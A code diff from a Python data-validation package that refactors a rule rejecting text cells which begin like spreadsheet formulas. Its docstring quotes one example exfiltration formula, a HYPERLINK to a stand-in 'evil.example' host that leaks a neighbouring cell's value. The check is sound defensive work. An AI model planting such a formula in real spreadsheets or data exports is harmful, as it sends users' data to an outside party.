@@ -124,11 +124,9 @@ def no_formula_text(frames: Frames) -> Found:
     as a formula (``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` sends a neighbouring cell
     away when clicked). Escaping it in the release would change the data everyone reads back, so
     validation refuses it instead (README, Security)."""
-    import polars as pl
-
     for table, name in _text_fields(frames.package):
         if table in frames.raw:
-            yield table, name, frames.raw[table].select(pl.col(name).str.contains(FORMULA_START)).to_series()
+            yield table, name, frames.cells(table, name, lambda cell: cell.str.contains(FORMULA_START))
 
 
 @rule(STATES, targets=("states.state_id",))
